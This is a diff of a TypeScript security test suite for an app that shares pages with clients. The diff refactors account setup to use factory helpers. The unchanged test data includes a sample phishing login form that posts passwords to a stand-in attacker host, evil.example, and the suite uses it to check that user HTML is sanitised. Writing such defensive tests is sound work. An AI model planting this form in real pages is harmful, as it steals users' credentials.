@@ -1,6 +1,7 @@
 import { buildInstance, buildPassiveWidget, buildWidget } from "@app/core/widgets/test-fixtures";
 import { expect, it } from "vitest";
-import { describeEachDb, inviteAndJoin, PNG_1X1, type TestClient } from "../../../test/harness";
+import { buildMember, buildOwner } from "../../../test/factories";
+import { describeEachDb, PNG_1X1, type TestClient } from "../../../test/harness";
 
 // What a member could paste to phish the agency's clients on a shared page.
 const PHISHING_FORM = `<p>Your session expired.</p><form action="https://evil.example/steal" method="post"><label>Password</label><input type="password" name="p"><select name="s"><option>a</option></select><textarea name="t">x</textarea><button type="submit">Log in</button></form>`;
@@ -31,8 +32,7 @@ function expectPresentational(html: string) {
 
 describeEachDb("shared pages cannot be turned against clients", (env) => {
   it("user HTML (footer, text card, widget description, notes) is saved as presentational markup only", async () => {
-    const owner = env().client();
-    await owner.signUpAndPassIntro();
+    const { client: owner } = await buildOwner(env());
     const { id, permalink } = await create(owner, "Client report");
     const textCard = buildPassiveWidget({
       id: "w1",
@@ -88,11 +88,9 @@ describeEachDb("shared pages cannot be turned against clients", (env) => {
   });
 
   it("style images accept only the company's own uploads, 422 per field otherwise", async () => {
-    const alpha = env().client();
-    await alpha.signUpAndPassIntro();
+    const { client: alpha } = await buildOwner(env());
     const { id, permalink } = await create(alpha, "Styled");
-    const beta = env().client();
-    const { company: betaCompany } = await beta.signUpAndPassIntro();
+    const { client: beta, company: betaCompany } = await buildOwner(env());
     const betaFile = (
       await beta.apiMultipart(
         "POST",
@@ -155,10 +153,9 @@ describeEachDb("shared pages cannot be turned against clients", (env) => {
   });
 
   it("public viewers get no user ids (the edit lock's holder) and the owner's white-label site title", async () => {
-    const owner = env().client();
-    const { user: ownerUser } = await owner.signUpAndPassIntro();
+    const { client: owner, user: ownerUser, company } = await buildOwner(env());
     await owner.api("POST", "/api/company", { site_title: "Acme Reports" });
-    const member = await inviteAndJoin(env, owner, "user");
+    const { client: member } = await buildMember(env(), { company });
     const memberUser = (await member.pageData()).user;
     const { id, permalink } = await create(owner, "Shared");
     await save(owner, id, { widgets: JSON.stringify([chart("w1", 0)]), footer: "<p>Hi</p>" });
@@ -170,8 +167,7 @@ describeEachDb("shared pages cannot be turned against clients", (env) => {
     expect(forOwner.json().data.siteTitle).toBeUndefined();
 
     const guest = env().client();
-    const stranger = env().client();
-    const { user: strangerUser } = await stranger.signUpAndPassIntro();
+    const { client: stranger, user: strangerUser } = await buildOwner(env());
     for (const viewer of [guest, stranger]) {
       const response = await viewer.api("GET", `/api/dashboards/${permalink}`);
       expect(response.statusCode).toBe(200);
